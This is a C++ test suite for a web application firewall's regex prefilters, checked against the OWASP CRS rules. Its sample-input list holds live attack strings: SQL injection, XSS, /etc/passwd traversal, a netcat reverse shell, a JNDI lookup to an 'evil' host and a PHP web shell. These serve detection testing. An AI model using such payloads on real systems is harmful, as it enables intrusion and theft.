// RegexPrefilter on Vectorscan, and @rx over the whole CRS: every pattern compiles, the
// prefilter never misses a pattern that matches, and RE2 agrees with PCRE2 where it
// replaces it.

#define PCRE2_CODE_UNIT_WIDTH 8
#include <gtest/gtest.h>
#include <pcre2.h>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <optional>
#include <random>
#include <set>
#include <sstream>
#include <thread>

#include "seclang/byte_filter.h"
#include "seclang/operator.h"
#include "seclang/operator_regex.h"

namespace rampart::seclang {
namespace {

std::vector<uint32_t> scan(const RegexPrefilter& prefilter, std::string_view input) {
  std::vector<uint32_t> out;
  prefilter.scan(input, out);
  std::sort(out.begin(), out.end());
  return out;
}

bool has(const std::vector<uint32_t>& v, uint32_t i) {
  return std::find(v.begin(), v.end(), i) != v.end();
}

TEST(RegexPrefilterTest, ReportsPatternsThatMayMatch) {
  std::string error;
  auto prefilter = build_regex_prefilter({"abc", "(?i)select.+from", "^admin$", "x\\d{3}y"}, error);
  ASSERT_TRUE(prefilter) << error;
  EXPECT_EQ(scan(*prefilter, "xxabcxx"), (std::vector<uint32_t>{0}));
  EXPECT_EQ(scan(*prefilter, "SELECT a\nFROM b abc"), (std::vector<uint32_t>{0, 1}));
  EXPECT_EQ(scan(*prefilter, "user\nadmin\n"), (std::vector<uint32_t>{2}));  // multiline
  EXPECT_EQ(scan(*prefilter, "x123y"), (std::vector<uint32_t>{3}));
  EXPECT_TRUE(scan(*prefilter, "nothing here").empty());
  EXPECT_TRUE(scan(*prefilter, "").empty());
}

TEST(RegexPrefilterTest, ConstructsVectorscanLacksOnlyWidenTheAnswer) {
  std::string error;
  // Lookaround and backreferences are approximated in prefilter mode.
  auto prefilter = build_regex_prefilter({"foo(?=bar)", "(a+)b\\1", "q"}, error);
  ASSERT_TRUE(prefilter) << error;
  EXPECT_TRUE(has(scan(*prefilter, "foobar"), 0));
  EXPECT_TRUE(has(scan(*prefilter, "aabaa"), 1));
  EXPECT_FALSE(has(scan(*prefilter, "zzz"), 2));
}

TEST(RegexPrefilterTest, RejectedPatternsAlwaysMayMatch) {
  std::string error;
  std::string with_nul("a\0b", 3);
  // Recursion and a NUL byte Vectorscan cannot take, even as a prefilter.
  auto prefilter = build_regex_prefilter({"abc", with_nul, "a(?R)?b", "(?C1)x"}, error);
  ASSERT_TRUE(prefilter) << error;
  auto none = scan(*prefilter, "zzz");
  EXPECT_FALSE(has(none, 0));
  EXPECT_TRUE(has(none, 1));
  EXPECT_TRUE(has(none, 2));
  EXPECT_TRUE(has(none, 3));
  EXPECT_EQ(scan(*prefilter, "abc"), (std::vector<uint32_t>{0, 1, 2, 3}));
}

TEST(RegexPrefilterTest, EmptySetAndEmptyMatchingPatterns) {
  std::string error;
  auto empty = build_regex_prefilter({}, error);
  ASSERT_TRUE(empty) << error;
  EXPECT_TRUE(scan(*empty, "abc").empty());
  auto optional = build_regex_prefilter({"x*", "^$"}, error);
  ASSERT_TRUE(optional) << error;
  EXPECT_TRUE(has(scan(*optional, ""), 0));
  EXPECT_TRUE(has(scan(*optional, ""), 1));
}

TEST(RegexPrefilterTest, AppendsWithoutTouchingExistingEntries) {
  std::string error;
  auto prefilter = build_regex_prefilter({"abc"}, error);
  ASSERT_TRUE(prefilter);
  std::vector<uint32_t> out{42};
  prefilter->scan("abc", out);
  EXPECT_EQ(out, (std::vector<uint32_t>{42, 0}));
}

TEST(RegexPrefilterTest, ScansFromManyThreadsAndDatabases) {
  std::string error;
  auto a = build_regex_prefilter({"alpha", "beta"}, error);
  auto b = build_regex_prefilter({"(?i)gamma.*delta", "x", "y", "z"}, error);
  ASSERT_TRUE(a && b);
  std::atomic<int> failures{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&] {
      for (int i = 0; i < 3000; ++i) {
        if (scan(*a, "xx beta xx") != std::vector<uint32_t>{1}) ++failures;
        if (scan(*b, "GAMMA and DELTA") != std::vector<uint32_t>{0}) ++failures;
      }
    });
  }
  for (auto& th : threads) th.join();
  EXPECT_EQ(failures.load(), 0);
}

// --- The CRS -------------------------------------------------------------------------

const char* const kCrsRules = "/usr/share/modsecurity-crs/rules";

// The argument of every `"@rx ..."` in the rule files (the text up to the closing
// unescaped quote; `\"` is left as written, which a regex reads as '"' anyway).
std::vector<std::string> crs_rx_patterns() {
  std::vector<std::string> patterns;
  std::set<std::string> seen;
  std::vector<std::filesystem::path> files;
  for (const auto& entry : std::filesystem::directory_iterator(kCrsRules)) {
    if (entry.path().extension() == ".conf") files.push_back(entry.path());
  }
  std::sort(files.begin(), files.end());
  for (const auto& file : files) {
    std::ifstream in(file, std::ios::binary);
    std::stringstream buf;
    buf << in.rdbuf();
    std::string text = buf.str();
    for (size_t at = text.find("\"@rx "); at != std::string::npos; at = text.find("\"@rx ", at)) {
      size_t line = text.rfind('\n', at);
      line = line == std::string::npos ? 0 : line + 1;
      size_t first = text.find_first_not_of(" \t", line);
      if (text[first] == '#') {  // a rule template quoted in a comment
        ++at;
        continue;
      }
      size_t i = at + 5;
      std::string pattern;
      while (i < text.size() && text[i] != '"') {
        if (text[i] == '\\' && i + 1 < text.size()) pattern += text[i++];
        pattern += text[i++];
      }
      at = i;
      if (seen.insert(pattern).second) patterns.push_back(pattern);
    }
  }
  return patterns;
}

// Attack payloads for each CRS family and ordinary values, some multi-line.
const std::vector<std::string>& sample_inputs() {
  static const std::vector<std::string> inputs = {
      "hello world",
      "",
      "/index.html",
      "application/x-www-form-urlencoded",
      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
      "1' OR '1'='1",
      "1 UNION SELECT username, password FROM users--",
      "admin'--",
      "1; DROP TABLE users",
      "' or 1=1#",
      "1 AND SLEEP(5)",
      "select * from information_schema.tables",
      "1' waitfor delay '0:0:5'--",
      "concat(0x3a,version())",
      "benchmark(10000000,md5(1))",
      "@@version",
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "javascript:alert(document.cookie)",
      "<svg/onload=alert(1)>",
      "<iframe src=\"http://evil\">",
      "\"><script>",
      "expression(alert(1))",
      "../../../../etc/passwd",
      "..\\..\\windows\\win.ini",
      "/etc/shadow",
      "%2e%2e%2f",
      "file:///etc/passwd",
      "http://evil.example/shell.txt?",
      "php://filter/resource=index",
      "; cat /etc/passwd",
      "| nc -e /bin/sh 10.0.0.1 4444",
      "$(whoami)",
      "`id`",
      "() { :; }; /bin/bash -c 'id'",
      "powershell -enc ZQBjAGgAbwA=",
      "cmd.exe /c dir",
      "<?php system($_GET['c']); ?>",
      "eval(base64_decode('aWQ='))",
      "$_SERVER['HTTP_HOST']",
      "O:8:\"stdClass\":0:{}",
      "phpinfo()",
      "java.lang.Runtime.getRuntime().exec(\"id\")",
      "${jndi:ldap://evil/a}",
      "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
      "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
      "require('child_process').exec('id')",
      "__proto__[admin]=1",
      "GET / HTTP/1.1\r\nHost: a\r\n\r\n",
      "a\r\nSet-Cookie: x=1",
      "Content-Type: text/html\nX-Injected: 1",
      "sessionid=abc123; jsessionid=1",
      "nikto",
      "sqlmap/1.5",
      "() {",
      "\\x00",
      std::string("a\0b", 3),
      "\xc0\xaf",
      "caf\xc3\xa9",
      "UNION\vSELECT",
      "select\nfrom",
      "<!--#exec cmd=\"ls\"-->",
      "{{7*7}}",
      "<xml><!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
      "Range: bytes=0-,1-,2-,3-,4-,5-,6-",
      "multipart/form-data; boundary=x",
      "../etc/passwd%00.png",
      "ORA-00933: SQL command not properly ended",
      "Warning: mysql_fetch_array()",
      "java.lang.NullPointerException",
      "Fatal error: Call to undefined function",
      "<b>Parse error</b>",
      "Microsoft OLE DB Provider for SQL Server",
      "/.git/config",
      "/.env",
      "wp-config.php",
  };
  return inputs;
}

// The match a PCRE2 compiled exactly as ModSecurity compiles @rx gives.
int pcre2_reference(const std::string& pattern, std::string_view input) {
  int code = 0;
  PCRE2_SIZE offset = 0;
  pcre2_code* re = pcre2_compile(reinterpret_cast<PCRE2_SPTR>(pattern.data()), pattern.size(),
                                 PCRE2_DOTALL | PCRE2_MULTILINE, &code, &offset, nullptr);
  if (re == nullptr) return -100;
  pcre2_match_data* md = pcre2_match_data_create_from_pattern(re, nullptr);
  static const char kEmpty[] = "";
  int rc = pcre2_match(re, reinterpret_cast<PCRE2_SPTR>(input.empty() ? kEmpty : input.data()),
                       input.size(), 0, 0, md, nullptr);
  pcre2_match_data_free(md);
  pcre2_code_free(re);
  return rc >= 0 ? 1 : rc == PCRE2_ERROR_NOMATCH ? 0 : rc;
}

class CrsRegexTest : public ::testing::Test {
 protected:
  void SetUp() override {
    if (!std::filesystem::is_directory(kCrsRules)) GTEST_SKIP() << "no CRS at " << kCrsRules;
    patterns_ = crs_rx_patterns();
    ASSERT_GT(patterns_.size(), 100u);
  }

  struct Tally {
    size_t true_matches = 0;
    size_t candidates = 0;  // patterns the prefilter reported, summed over the inputs
  };
  // Runs every pattern as the @rx operator on each input and expects `prefilter` to have
  // reported each one that matched: a prefilter may report too much, never too little.
  Tally expect_no_false_negatives(const RegexPrefilter& prefilter,
                                  const std::vector<std::string>& inputs) {
    std::string error;
    std::vector<std::unique_ptr<Operator>> ops;
    for (const std::string& p : patterns_) {
      OperatorSpec spec{"rx", p, false};
      ops.push_back(compile_operator(spec, false, OperatorLoadContext{}, error));
      if (!ops.back()) {
        ADD_FAILURE() << p << ": " << error;
        return {};
      }
    }
    Tally tally;
    for (const std::string& input : inputs) {
      auto may = scan(prefilter, input);
      tally.candidates += may.size();
      for (uint32_t i = 0; i < patterns_.size(); ++i) {
        if (ops[i]->match(input, patterns_[i], nullptr) != MatchResult::kMatch) continue;
        ++tally.true_matches;
        EXPECT_TRUE(has(may, i)) << "missed " << patterns_[i] << "\non: " << input;
      }
    }
    return tally;
  }

  std::vector<std::string> patterns_;
};

TEST_F(CrsRegexTest, EveryPatternCompilesAndFewNeedPcre2) {
  std::vector<std::string> on_pcre2;
  for (const std::string& p : patterns_) {
    std::string error;
    auto re = detail::PcreCompatRegex::compile(p, 10000, error);
    ASSERT_TRUE(re) << p << ": " << error;
    if (re->uses_pcre2()) on_pcre2.push_back(p);
    OperatorSpec spec{"rx", p, false};
    ASSERT_TRUE(compile_operator(spec, false, OperatorLoadContext{}, error)) << error;
  }
  std::printf("CRS @rx patterns: %zu distinct, %zu on PCRE2:\n", patterns_.size(), on_pcre2.size());
  for (const auto& p : on_pcre2) std::printf("  %s\n", p.c_str());
  EXPECT_LT(on_pcre2.size(), patterns_.size() / 10);
}

TEST_F(CrsRegexTest, Re2AgreesWithPcre2OnSampleInputs) {
  int compared = 0, matched = 0;
  for (const std::string& p : patterns_) {
    std::string error;
    auto re = detail::PcreCompatRegex::compile(p, 100000, error);
    ASSERT_TRUE(re);
    if (re->uses_pcre2()) continue;
    for (const std::string& input : sample_inputs()) {
      int expected = pcre2_reference(p, input);
      if (expected < 0) continue;  // PCRE2's own limits
      bool ours = re->match(input, nullptr) == MatchResult::kMatch;
      EXPECT_EQ(ours, expected == 1) << p << "\non: " << input;
      ++compared;
      matched += ours;
    }
  }
  std::printf("compared %d pattern/input pairs, %d matches\n", compared, matched);
  EXPECT_GT(matched, 50);
}

TEST_F(CrsRegexTest, PrefilterHasNoFalseNegatives) {
  std::string error;
  auto start = std::chrono::steady_clock::now();
  auto prefilter = build_regex_prefilter(patterns_, error);
  ASSERT_TRUE(prefilter) << error;
  std::printf("prefilter built in %.1f s\n",
              std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count());
  std::vector<uint32_t> never_filtered;
  prefilter->scan("\x01", never_filtered);
  std::printf("prefilter: %zu of %zu patterns reported on every input:\n", never_filtered.size(),
              patterns_.size());
  for (uint32_t i : never_filtered) std::printf("  %.100s\n", patterns_[i].c_str());
  auto [true_matches, candidates] = expect_no_false_negatives(*prefilter, sample_inputs());
  std::printf("%zu inputs: %zu true matches, %zu candidates from the prefilter\n",
              sample_inputs().size(), true_matches, candidates);
  EXPECT_GT(true_matches, 50u);
}

// --- The literal prefilter -----------------------------------------------------------

TEST(LiteralPrefilterTest, ReportsPatternsWhoseLiteralsArePresent) {
  auto prefilter = build_literal_prefilter(
      {"abcdef", "(?i)select.+from", "^admin$", "(?:union|insert)\\s+into", "x\\d{3}y"});
  ASSERT_TRUE(prefilter);
  std::vector<uint32_t> never = scan(*prefilter, "nothing here");
  // Without a literal of 3 bytes the last pattern cannot be filtered.
  EXPECT_EQ(never, (std::vector<uint32_t>{4}));
  EXPECT_TRUE(has(scan(*prefilter, "xxABCDEFxx"), 0));  // case folded: a superset
  EXPECT_TRUE(has(scan(*prefilter, "SeLeCt a\nFROM b"), 1));
  EXPECT_FALSE(has(scan(*prefilter, "select a"), 1));  // both literals are needed
  EXPECT_TRUE(has(scan(*prefilter, "user\nadmin\n"), 2));
  EXPECT_FALSE(has(scan(*prefilter, "user\nadm\n"), 2));
  EXPECT_TRUE(has(scan(*prefilter, "INSERT  INTO t"), 3));
  EXPECT_TRUE(has(scan(*prefilter, "union into"), 3));
  EXPECT_FALSE(has(scan(*prefilter, "insert in to"), 3));
}

TEST(LiteralPrefilterTest, PatternsItCannotReadAlwaysMayMatch) {
  std::string with_nul("abc\0def", 7);
  // Non-ASCII bytes (RE2 folds Latin-1 case differently), lookahead (not RE2), octal.
  auto prefilter = build_literal_prefilter(
      {"caf\xc3\xa9", "foo(?=bar)", "abc\\101def", "(?i)\\xe9t\\xe9", "zzz"});
  ASSERT_TRUE(prefilter);
  EXPECT_EQ(scan(*prefilter, "nothing"), (std::vector<uint32_t>{0, 1, 2, 3}));
  // Nothing it could filter: no prefilter at all.
  EXPECT_FALSE(build_literal_prefilter({}));
  EXPECT_FALSE(build_literal_prefilter({"foo(?=bar)", "^.*$"}));
  auto nul = build_literal_prefilter({with_nul});
  EXPECT_TRUE(has(scan(*nul, with_nul), 0));
}

TEST_F(CrsRegexTest, LiteralPrefilterHasNoFalseNegatives) {
  auto start = std::chrono::steady_clock::now();
  auto prefilter = build_literal_prefilter(patterns_);
  std::printf("literal prefilter built in %.3f s\n",
              std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count());
  std::vector<uint32_t> never_filtered;
  prefilter->scan("\x01", never_filtered);
  std::printf("literal prefilter: %zu of %zu patterns reported on every input\n",
              never_filtered.size(), patterns_.size());
  EXPECT_LT(never_filtered.size(), patterns_.size() / 2);
  // Every sample as written, upper-cased, and embedded in ordinary text.
  std::vector<std::string> inputs;
  for (const std::string& input : sample_inputs()) {
    inputs.push_back(input);
    std::string upper = input;
    for (char& c : upper) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
    inputs.push_back(upper);
    inputs.push_back("id=7&q=" + input + "\n&x=y");
  }
  auto [true_matches, candidates] = expect_no_false_negatives(*prefilter, inputs);
  std::printf("%zu inputs: %zu true matches, %zu candidates from the literal prefilter\n",
              inputs.size(), true_matches, candidates);
  EXPECT_GT(true_matches, 100u);
  EXPECT_LT(candidates, inputs.size() * patterns_.size() / 2);
}

// --- The byte-class prefilter --------------------------------------------------------

TEST_F(CrsRegexTest, ByteConditionHasNoFalseNegatives) {
  std::string error;
  std::vector<std::unique_ptr<Operator>> ops;
  std::vector<std::optional<std::vector<ByteSet>>> all_sets;
  std::vector<ByteCondition> conditions;
  size_t understood = 0, with_condition = 0;
  for (const std::string& p : patterns_) {
    OperatorSpec spec{"rx", p, false};
    ops.push_back(compile_operator(spec, false, OperatorLoadContext{}, error));
    ASSERT_TRUE(ops.back()) << error;
    all_sets.push_back(required_byte_sets(p));
    conditions.push_back(byte_condition_for(p));
    understood += all_sets.back().has_value();
    with_condition += !conditions.back().empty();
  }
  std::printf("byte conditions: %zu of %zu patterns read, %zu with a condition\n", understood,
              patterns_.size(), with_condition);
  EXPECT_GT(with_condition, patterns_.size() / 3);
  // Attack samples as written, upper-cased and inside a query string, and random strings
  // over the bytes the CRS cares about.
  std::vector<std::string> inputs;
  for (const std::string& input : sample_inputs()) {
    inputs.push_back(input);
    std::string upper = input;
    for (char& c : upper) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
    inputs.push_back(upper);
    inputs.push_back("id=7&q=" + input + "\n&x=y");
  }
  std::mt19937 rng(7);
  const std::string alphabet = "aeiostxzAESX019 <>'\"`;|&$(){}[]\\/.-=:%#!*?\n\t\v\xa0\xc9\xe9";
  for (int i = 0; i < 1500; ++i) {
    std::string s;
    size_t n = rng() % 24;
    for (size_t j = 0; j < n; ++j) s += alphabet[rng() % alphabet.size()];
    inputs.push_back(s);
  }
  size_t true_matches = 0, passed = 0, benign_passed = 0, benign_pairs = 0;
  for (const std::string& input : inputs) {
    ByteSet present = bytes_present(input);
    for (size_t i = 0; i < patterns_.size(); ++i) {
      bool pass = conditions[i].passes(present);
      passed += pass;
      if (ops[i]->match(input, patterns_[i], nullptr) != MatchResult::kMatch) continue;
      ++true_matches;
      EXPECT_TRUE(pass) << "missed " << patterns_[i] << "\non: " << input;
      if (!all_sets[i]) continue;
      for (const ByteSet& s : *all_sets[i]) {
        EXPECT_TRUE(s.intersects(present))
            << "a required set misses " << patterns_[i] << "\non: " << input;
      }
    }
  }
  for (const char* benign : {"hello world", "/index.html", "shop.example.com", "en-US,en;q=0.5",
                             "gzip, deflate, br", "blue suede shoes", "price"}) {
    ByteSet present = bytes_present(benign);
    for (const ByteCondition& c : conditions) {
      ++benign_pairs;
      benign_passed += c.passes(present);
    }
  }
  std::printf(
      "%zu inputs: %zu true matches, %zu pattern/input pairs passed; benign values: %zu of "
      "%zu pairs passed\n",
      inputs.size(), true_matches, passed, benign_passed, benign_pairs);
  EXPECT_GT(true_matches, 100u);
  EXPECT_LT(benign_passed, benign_pairs * 3 / 4);
}

}  // namespace
}  // namespace rampart::seclang
